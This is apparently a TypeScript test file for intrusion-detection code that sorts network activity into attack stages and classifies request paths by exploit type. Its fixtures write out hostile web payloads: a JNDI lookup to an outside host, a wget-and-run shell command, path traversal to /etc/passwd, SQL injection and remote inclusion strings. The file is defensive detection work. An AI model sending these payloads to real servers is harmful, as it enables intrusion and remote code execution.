import { describe, expect, test } from 'vitest';
import {
  activity,
  alert,
  app,
  at,
  contact,
  episode,
  ip,
  site,
  type WrittenActivity,
  type WrittenContact,
} from '../../../test/written/source-activity.ts';
import { exploitShape } from './exploit-shape.ts';
import { depthWith, transitionOf } from './transition.ts';

/** Ten closed ports of 10.0.0.9, one a second, and its SSH port open. */
const scan: readonly WrittenContact[] = [
  ...Array.from({ length: 10 }, (_, index) => ({
    to: '10.0.0.9',
    port: 100 + index,
    at: index,
    outcome: 'refused' as const,
  })),
  { to: '10.0.0.9', port: 22, at: 10, outcome: 'half-open' as const },
];
const attacked = episode({ sources: [ip('198.51.100.7')], internal: false, first: at(0), last: at(60) });
const stepsOf = (did: Partial<WrittenActivity>, more: readonly WrittenContact[] = []): string[] =>
  transitionOf(attacked, [activity('198.51.100.7', { contacts: [...scan, ...more], ...did })], site()).map(
    ({ step }) => step,
  );
const out = (to: string, port: number, seconds: number, bytes: readonly [number, number] = [300, 900]) =>
  contact('10.0.0.9', { to, port, at: seconds, outcome: 'answered', bytes });
const jndi = app('10.0.0.9', 80, 'http', { targets: ['/?x=${jndi:ldap://198.51.100.7/a}'], first: at(30) });
const burst = app('10.0.0.9', 22, 'ssh', { rejected: 40, accepted: 0, first: at(30), last: at(90) });

describe('from looking to getting in', () => {
  test.each<{ why: string; did: Partial<WrittenActivity>; more?: readonly WrittenContact[]; want: string[] }>(
    [
      { why: 'a scan alone', did: {}, want: [] },
      {
        why: 'a scan and a service probe',
        did: { app: [app('10.0.0.9', 22, 'ssh', { agents: ['SSH-2.0-Nmap'], first: at(20) })] },
        want: [],
      },
      {
        why: 'an exploit-shaped request',
        did: { app: [jndi] },
        want: ['discovery', 'service-probe', 'exploit-attempt'],
      },
      {
        why: 'an alert that claims an exploit',
        did: {
          alerts: [
            alert('10.0.0.9', 80, {
              signature: 'ET EXPLOIT Apache Struts',
              category: 'Attempted Administrator Privilege Gain',
              first: at(30),
            }),
          ],
        },
        want: ['discovery', 'exploit-attempt'],
      },
      {
        why: 'an alert that claims a scan, under the same category',
        did: {
          alerts: [
            alert('10.0.0.9', 80, {
              signature: 'ET SCAN Nmap NSE Heartbleed',
              category: 'Web Application Attack',
            }),
          ],
        },
        want: [],
      },
      {
        why: 'a burst of passwords',
        did: { app: [burst] },
        want: ['discovery', 'service-probe', 'credential-burst'],
      },
      {
        why: 'a burst of passwords, the last of them right',
        did: { app: [{ ...burst, accepted: 1 }] },
        want: ['discovery', 'service-probe', 'credential-burst', 'session'],
      },
      {
        why: 'nine wrong passwords are somebody who forgot his, on a host that he did not scan',
        did: { app: [app('10.0.0.8', 22, 'ssh', { rejected: 9, accepted: 1, first: at(30) })] },
        more: [{ to: '10.0.0.8', port: 22, at: 30, outcome: 'answered' }],
        want: [],
      },
      {
        why: 'a login on the very host that was scanned',
        did: { app: [app('10.0.0.9', 22, 'ssh', { accepted: 1, first: at(50) })] },
        want: ['discovery', 'service-probe', 'session'],
      },
      {
        why: 'a closed port that opens after the exploit',
        did: { app: [jndi] },
        more: [
          {
            to: '10.0.0.9',
            port: 4444,
            at: 11,
            lastAt: 45,
            outcome: 'refused',
            also: ['answered'],
            bytes: [200, 5_000],
          },
        ],
        want: ['discovery', 'service-probe', 'exploit-attempt', 'session'],
      },
      {
        why: 'one more probe after the exploit is no session',
        did: { app: [jndi] },
        more: [{ to: '10.0.0.9', port: 443, at: 40, outcome: 'answered', bytes: [200, 900], duration: 2e6 }],
        want: ['discovery', 'service-probe', 'exploit-attempt'],
      },
      {
        why: 'the target connects out after the exploit',
        did: { app: [jndi], outboundAfter: [out('203.0.113.9', 8443, 40)] },
        want: ['discovery', 'service-probe', 'exploit-attempt', 'outbound'],
      },
      {
        why: 'the target had connected out before',
        did: { app: [jndi], outboundAfter: [out('203.0.113.9', 8443, 20)] },
        want: ['discovery', 'service-probe', 'exploit-attempt'],
      },
      {
        why: 'the target fetches updates an hour later',
        did: { app: [jndi], outboundAfter: [out('203.0.113.9', 443, 3_000)] },
        want: ['discovery', 'service-probe', 'exploit-attempt'],
      },
      {
        why: 'the target asks for a name and the time',
        did: { app: [jndi], outboundAfter: [out('9.9.9.9', 53, 31), out('203.0.113.9', 123, 32)] },
        want: ['discovery', 'service-probe', 'exploit-attempt'],
      },
      {
        why: 'nothing came back from where the target turned to',
        did: { app: [jndi], outboundAfter: [out('203.0.113.9', 8443, 40, [60, 0])] },
        want: ['discovery', 'service-probe', 'exploit-attempt'],
      },
      {
        why: 'the target connects back to who scanned it, whatever was seen before',
        did: { outboundAfter: [out('198.51.100.7', 4444, 40)] },
        want: ['discovery', 'outbound'],
      },
      {
        why: 'an exploit at a host that the episode does not touch',
        did: { app: [{ ...jndi, destination: ip('10.0.7.7') }] },
        want: [],
      },
    ],
  )('$why', ({ did, more, want }) => {
    expect(stepsOf(did, more)).toEqual(want);
  });
});

test('who scans and who exploits may be two sources of one group', () => {
  const group = episode({ ...attacked, sources: [ip('198.51.100.7'), ip('198.51.100.8')] });
  const members = [
    activity('198.51.100.7', { contacts: scan }),
    activity('198.51.100.8', { contacts: [], app: [jndi] }),
  ];
  const steps = transitionOf(group, members, site());
  expect(steps.map(({ step, source }) => [step, source])).toEqual([
    ['discovery', '198.51.100.7'],
    ['service-probe', '198.51.100.8'],
    ['exploit-attempt', '198.51.100.8'],
  ]);
  expect(transitionOf(group, members.toReversed(), site())).toEqual(steps);
});

test('one password at many hosts is a burst at each', () => {
  const hosts = Array.from({ length: 12 }, (_, index) => `10.0.0.${index + 1}`);
  const steps = transitionOf(
    attacked,
    [
      activity('198.51.100.7', {
        contacts: hosts.map((to, index) => ({ to, port: 22, at: index, outcome: 'answered' as const })),
        app: hosts.map((to, index) =>
          app(to, 22, 'ssh', { rejected: 2, accepted: index === 3 ? 1 : 0, first: at(20) }),
        ),
      }),
    ],
    site(),
  );
  expect(steps.filter(({ step }) => step === 'credential-burst')).toHaveLength(12);
  expect(steps.filter(({ step }) => step === 'session').map(({ destination }) => destination)).toEqual([
    '10.0.0.4',
  ]);
});

test('steps deepen an episode and never make it shallower', () => {
  const attempt = transitionOf(attacked, [activity('198.51.100.7', { contacts: scan, app: [jndi] })], site());
  expect(depthWith('touched', attempt)).toBe('attempted');
  expect(depthWith('entered', attempt)).toBe('entered');
  expect(depthWith('enumerated', [])).toBe('enumerated');
});

describe('the shape of a request', () => {
  test.each([
    ['/cgi-bin/.%2e/.%2e/.%2e/bin/sh', 'path traversal'],
    ['/..%252f..%252f..%252fetc/passwd', 'path traversal'],
    ['/a?x=%24%7Bjndi%3Aldap%3A%2F%2F1.2.3.4%2Fa%7D', 'JNDI lookup'],
    ['/shell?cd+/tmp;wget+http://203.0.113.9/x.sh', 'shell command'],
    ['/item?id=1%27%20or%20%271', 'SQL injection'],
    ['/item?id=-1 UNION ALL SELECT 1,2', 'SQL injection'],
    ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'PHP code execution'],
    ['/?class.module.classLoader.resources=1', 'Java expression'],
    ['/index.php?page=http://203.0.113.9/shell.txt', 'remote inclusion'],
    ['/', undefined],
    ['/.git/config', undefined],
    ['/wp-login.php', undefined],
    ['/search?q=union&select=1', undefined],
    ['/list?a=1&id=5&cat=7', undefined],
    ['/redirect?to=https://example.org/', undefined],
    ['/%', undefined],
  ])('%s → %s', (target, want) => {
    expect(exploitShape(target)).toBe(want);
  });
  test('a long target ends soon', () => {
    expect(exploitShape(`/${'a'.repeat(1_000_000)}../../etc/passwd`)).toBeUndefined();
  });
});
